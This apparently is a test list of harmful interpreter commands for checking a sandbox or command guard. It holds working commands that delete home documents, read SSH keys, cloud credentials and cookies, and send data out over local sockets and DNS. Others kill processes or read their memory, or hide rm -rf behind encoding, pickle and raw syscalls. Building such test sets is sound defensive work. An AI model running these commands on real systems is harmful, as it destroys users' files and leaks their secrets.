# Harm in the text of a program that an interpreter is handed.

# Python removes a directory of the person
python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~/Documents'))"

# Python overwrites a document
python3 -c "open('$HOME/Documents/letter.txt', 'w').write('gone')"

# Python truncates a document without opening it for writing first
python3 -c "import os; os.truncate('$HOME/Documents/letter.txt', 0)"

# Python renames the documents
python3 -c "import os; os.rename('$HOME/Documents', '$HOME/Documents.old')"

# Python makes a key readable for all
python3 -c "import os; os.chmod('$HOME/.ssh/id_ed25519', 0o644)"

# Python changes the times of a document
python3 -c "import os; os.utime('$HOME/Documents/letter.txt', (1, 1))"

# Python prints a key
python3 -c "print(open('$HOME/.ssh/id_ed25519').read())"

# Python prints a key, with its path in pieces
python3 -c "p = ['$HOME', '.s' + 'sh', 'id_' + 'ed25519']; print(open('/'.join(p)).read())"

# Python runs text that was encoded
python3 -c "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBwcmludChvcGVuKG9zLnBhdGguZXhwYW5kdXNlcigifi8uYXdzL2NyZWRlbnRpYWxzIikpLnJlYWQoKSk='))"

# Python calls the C library to remove a document
python3 -c "import ctypes; ctypes.CDLL(None).unlink(b'$HOME/Documents/letter.txt')"

# Python calls the kernel by number to rename a document
python3 -c "import ctypes; ctypes.CDLL(None).syscall(82, b'$HOME/Documents/letter.txt', b'$HOME/Documents/x')"

# Python from a here document walks the home and removes
python3 - <<'PY'
import os, pathlib
for path in pathlib.Path.home().joinpath("Documents").rglob("*.txt"):
    path.unlink()
PY

# Python as a module writes an archive over a document
python3 -m zipfile -c ~/Documents/letter.txt app.py

# Python's pickle runs a command
python3 -c "
import pickle
class Bad:
    def __reduce__(self):
        import os
        return os.system, ('rm -rf ~/Documents',)
open('data.pickle', 'wb').write(pickle.dumps(Bad()))
pickle.load(open('data.pickle', 'rb'))"

# Python kills a process of the person
python3 -c "import os; os.kill($CANARY, 9)"

# Python kills by a descriptor of the process
python3 -c "import os, signal; signal.pidfd_send_signal(os.pidfd_open($CANARY), 9)"

# Python reads the memory of a process
python3 - <<'PY'
import os, re
pid = os.environ["CANARY"]
spans = re.findall(r"^(\w+)-(\w+) rw.*\[(?:heap|stack)\]", open(f"/proc/{pid}/maps").read(), re.M)
with open(f"/proc/{pid}/mem", "rb") as memory:
    for low, high in spans:
        memory.seek(int(low, 16))
        os.write(1, memory.read(int(high, 16) - int(low, 16)))
PY

# Python reads the memory of a process with a system call
python3 - <<'PY'
import ctypes, os, re
pid = int(os.environ["CANARY"])
libc = ctypes.CDLL(None, use_errno=True)
low, high = re.search(r"^(\w+)-(\w+) rw.*\[stack\]", open(f"/proc/{pid}/maps").read(), re.M).groups()
low, size = int(low, 16), int(high, 16) - int(low, 16)
buffer = ctypes.create_string_buffer(size)
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here, there = Part(ctypes.addressof(buffer), size), Part(low, size)
libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
os.write(1, buffer.raw)
PY

# Python stops a process
python3 -c "import os, signal; os.kill($CANARY, signal.SIGSTOP)"

# Python limits the processor time of a process, which kills it
python3 -c "import resource; resource.prlimit($CANARY, resource.RLIMIT_CPU, (0, 0))"

# Python takes the descriptors of a process away
python3 -c "import resource; resource.prlimit($CANARY, resource.RLIMIT_NOFILE, (0, 0))"

# Python gives a process the least share of the processors
python3 -c "import os; os.setpriority(os.PRIO_PROCESS, $CANARY, 19)"

# Python binds a process to one processor
python3 -c "import os; os.sched_setaffinity($CANARY, {0} if len(os.sched_getaffinity($CANARY)) > 1 else {0})"

# Python makes a process idle
python3 -c "import os; os.sched_setscheduler($CANARY, os.SCHED_IDLE, os.sched_param(0))"

# Python makes a process the first victim of a lack of memory
python3 -c "open('/proc/$CANARY/oom_score_adj', 'w').write('1000')"

# Python sends a key over TCP
python3 -c "
import socket
with socket.create_connection(('127.0.0.1', $PORT), 1) as there:
    there.sendall(open('$HOME/Documents/letter.txt', 'rb').read())"

# Python posts a document by HTTP
timeout 2 python3 -c "
import urllib.request
urllib.request.urlopen('http://127.0.0.1:$PORT/', open('$HOME/Documents/letter.txt', 'rb').read(), 1)"

# Python sends a datagram
python3 -c "
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', $UDP))"

# Python sends over IPv6
python3 -c "import socket; socket.create_connection(('::1', $PORT6), 1).sendall(b'x')"

# Python asks a false name server, with the data in the name
python3 -c "
import socket
name = b''.join(bytes([len(part)]) + part for part in (b'stolen', b'example', b'com')) + b'\0'
packet = b'\1\2\1\0\0\1\0\0\0\0\0\0' + name + b'\0\1\0\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ('127.0.0.1', $UDP))"

# Python connects to an abstract socket
python3 -c "
import socket
there = socket.socket(socket.AF_UNIX)
there.connect('\0$ABSTRACT')
there.sendall(b'x')"

# Python connects to a socket of the person's programs
python3 -c "
import socket
there = socket.socket(socket.AF_UNIX)
there.connect('$SOCKET')
there.sendall(b'POST /containers/create')"

# Python connects to a socket through a symbolic link
python3 -c "
import os, socket
os.symlink('$SOCKET', 'link.sock')
there = socket.socket(socket.AF_UNIX)
there.connect('link.sock')
there.sendall(b'x')"

# Python sends a datagram to a socket of the person's programs
python3 -c "
import socket
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '$SOCKET.datagrams')"

# Perl removes a document [perl]
perl -e 'unlink "$ENV{HOME}/Documents/letter.txt"'

# Perl edits a document in place [perl]
perl -pi -e 's/Dear/Damn/' ~/Documents/letter.txt

# Perl prints credentials backwards [perl]
perl -e 'open F, "$ENV{HOME}/.aws/credentials"; print scalar reverse $_ while <F>'

# Perl sends over TCP [perl]
perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("127.0.0.1:$ENV{PORT}")} "x"'

# Perl kills [perl]
perl -e 'kill "KILL", $ENV{CANARY}'

# Node removes the documents [node]
node -e 'require("fs").rmSync(process.env.HOME + "/Documents", {recursive: true})'

# Node prints the tokens of the package manager [node]
node -p 'require("fs").readFileSync(process.env.HOME + "/.npmrc", "utf8")'

# Node connects [node]
timeout 2 node -e 'require("net").connect(+process.env.PORT, "127.0.0.1", function () { this.end("x") })'

# Node kills [node]
node -e 'process.kill(+process.env.CANARY, "SIGKILL")'

# Tcl deletes a document [tclsh]
echo 'file delete -force $env(HOME)/Documents' | tclsh

# Java reads a key [java]
printf 'class Read { public static void main(String[] a) throws Exception {
System.out.println(java.nio.file.Files.readString(java.nio.file.Path.of(a[0]))); } }' > Read.java
java -Xshare:auto -XX:TieredStopAtLevel=1 Read.java ~/.ssh/id_ed25519

# The shell evaluates text that was encoded
eval "$(echo cm0gLXJmIH4vRG9jdW1lbnRz | base64 -d)"

# The shell evaluates text in octal
eval "$(printf '\162\155\40\55\162\146\40\176\57\104\157\143\165\155\145\156\164\163')"

# The shell connects with its own device
bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT && echo x >&3"

# The shell sends a datagram with its own device
bash -c "echo x > /dev/udp/127.0.0.1/$UDP"

# The shell truncates a document
: > ~/Documents/letter.txt

# The shell overwrites a document through a descriptor
exec 7<> ~/Documents/letter.txt; echo overwritten >&7

# A command whose name is in a variable removes
r=r; m=m; $r$m -rf ~/Doc*

# A command whose name comes out of a file removes
echo 'rm -rf ~/Documents' > notes.txt; . ./notes.txt

# SQLite overwrites a database of the person [sqlite3]
sqlite3 ~/.mozilla/firefox/main/cookies.sqlite "DELETE FROM cookies"

# SQLite writes a database over a document [sqlite3]
rm -f x.db; sqlite3 x.db "CREATE TABLE t (a); ATTACH '$HOME/Documents/new.db' AS n; CREATE TABLE n.t (a)"

# SQLite reads a file of the browser [sqlite3]
sqlite3 "file:$HOME/.mozilla/firefox/main/cookies.sqlite?immutable=1" "SELECT value FROM cookies"

# The calculator's shell escape removes [bc]
echo 'system' | bc > /dev/null 2>&1; echo "!rm -rf ~/Documents" | ed -s

# The debugger's Python removes [gdb]
gdb -batch -nx -ex "python import shutil, os; shutil.rmtree(os.path.expanduser('~/Documents'))"

# The debugger calls exit in another process [gdb]
timeout 8 gdb -batch -nx -p "$CANARY" -ex 'call (void) _exit(3)'

# The tracer reads the environment of a process [strace]
timeout 2 strace -p "$CANARY" -o trace.txt & sleep 0.2; tr '\0' '\n' < /proc/$CANARY/environ

# Python asks the kernel's ring to open and write a file
python3 - <<'PY'
import ctypes, mmap, os, struct
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
assert ring >= 0, os.strerror(ctypes.get_errno())
values = struct.unpack("<30I", params.raw)
sq, array_off = values[10:20], values[16]
rings = mmap.mmap(ring, array_off + 4 * values[0])
entries = mmap.mmap(ring, 64 * values[0], offset=0x10000000)
path = ctypes.create_string_buffer(os.path.expanduser("~/Documents/letter.txt").encode())
# IORING_OP_OPENAT with O_WRONLY | O_TRUNC
entries[:64] = struct.pack("<BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0o1001, 7) + bytes(24)
rings[array_off:array_off + 4] = struct.pack("<I", 0)
rings[values[11]:values[11] + 4] = struct.pack("<I", 1)
assert libc.syscall(426, ring, 1, 1, 1, None, 0) == 1
PY
